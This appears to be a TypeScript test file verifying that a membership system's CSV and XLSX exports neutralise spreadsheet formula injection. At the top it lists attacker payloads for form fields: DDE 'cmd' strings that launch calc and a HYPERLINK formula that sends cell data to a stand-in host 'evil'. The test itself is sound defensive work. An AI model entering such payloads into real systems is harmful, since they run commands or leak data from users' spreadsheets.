import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { bearer, createUser, loginAsSuperAdmin, TestUser } from '../harness/auth.js';
import { financiallyReviewed } from '../harness/applications.js';
import { submitApplication, validIdNumber } from '../harness/members.js';
import { startTestContext, TestContext } from '../harness/test-app.js';

/** What an attacker types into the public application form. */
const PAYLOADS = {
  firstNames: "-2+3+cmd|' /C calc'!A0",
  surname: '-1+HYPERLINK("https://evil/?"&C3,"x")',
  residentialAddress: "+1 @SUM(1+1)*cmd|' /C calc'!A0",
};

function binary(
  res: { on: (e: string, cb: (c?: Buffer) => void) => void },
  cb: (e: null, b: Buffer) => void,
): void {
  const chunks: Buffer[] = [];
  res.on('data', (c?: Buffer) => c && chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
}

/** A cell a spreadsheet would evaluate: starts with = + - @ (tab, CR) and is not a plain or phone number. */
const live = (value: string): boolean =>
  /^[=+\-@\t\r]/.test(value) && !/^[+-]?\d[\d ]*$/.test(value);

describe('#15.4 formula injection in exports', () => {
  let ctx: TestContext;
  let gp: TestUser;
  const idNumber = validIdNumber();

  beforeAll(async () => {
    ctx = await startTestContext();
    const admin = await loginAsSuperAdmin(ctx.app);
    gp = await createUser(ctx.app, admin, 'provincial_admin', 'province', 'GP');
    const id = await submitApplication(ctx.app, ctx.db.pool, {
      idNumber,
      firstNames: PAYLOADS.firstNames,
      surname: PAYLOADS.surname,
      residentialAddress: PAYLOADS.residentialAddress,
    });
    await ctx.app
      .http()
      .post(`/api/v1/applications/${id}/review`)
      .set(...bearer(gp))
      .expect(200);
    await financiallyReviewed(ctx.db.pool, id);
    await ctx.app
      .http()
      .post(`/api/v1/applications/${id}/approve`)
      .set(...bearer(gp))
      .expect(201);
  });
  afterAll(() => ctx?.close());

  it('neutralises formulas in the CSV export and keeps phone numbers as they are', async () => {
    const res = await ctx.app
      .http()
      .get('/api/v1/members/export?format=csv')
      .set(...bearer(gp))
      .expect(200);
    const rows = parse<Record<string, string>>(res.text.replace(/^\uFEFF/, ''), {
      columns: true,
    });
    const row = rows.find((r) => r['ID Number'] === idNumber);
    expect(row).toBeDefined();
    expect(row?.['First Names']).toBe(`'${PAYLOADS.firstNames}`);
    expect(row?.Surname).toBe(`'${PAYLOADS.surname}`);
    expect(row?.['Residential Address']).toBe(`'${PAYLOADS.residentialAddress}`);
    expect(row?.['Cell Number']).toBe('+27821234567');
    for (const r of rows) for (const value of Object.values(r)) expect(live(value)).toBe(false);
  });

  it('writes XLSX cells as neutralised strings, never formulas', async () => {
    const res = await ctx.app
      .http()
      .get('/api/v1/members/export?format=xlsx')
      .set(...bearer(gp))
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as never);
    const sheet = wb.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).map((v) => (v ?? '') as string);
    let found = false;
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        expect(live(cell.text)).toBe(false);
      });
      if (row.getCell(headers.indexOf('ID Number')).text !== idNumber) return;
      found = true;
      expect(row.getCell(headers.indexOf('First Names')).text).toBe(`'${PAYLOADS.firstNames}`);
      expect(row.getCell(headers.indexOf('Surname')).text).toBe(`'${PAYLOADS.surname}`);
      expect(row.getCell(headers.indexOf('Cell Number')).text).toBe('+27821234567');
    });
    expect(found).toBe(true);
  });
});
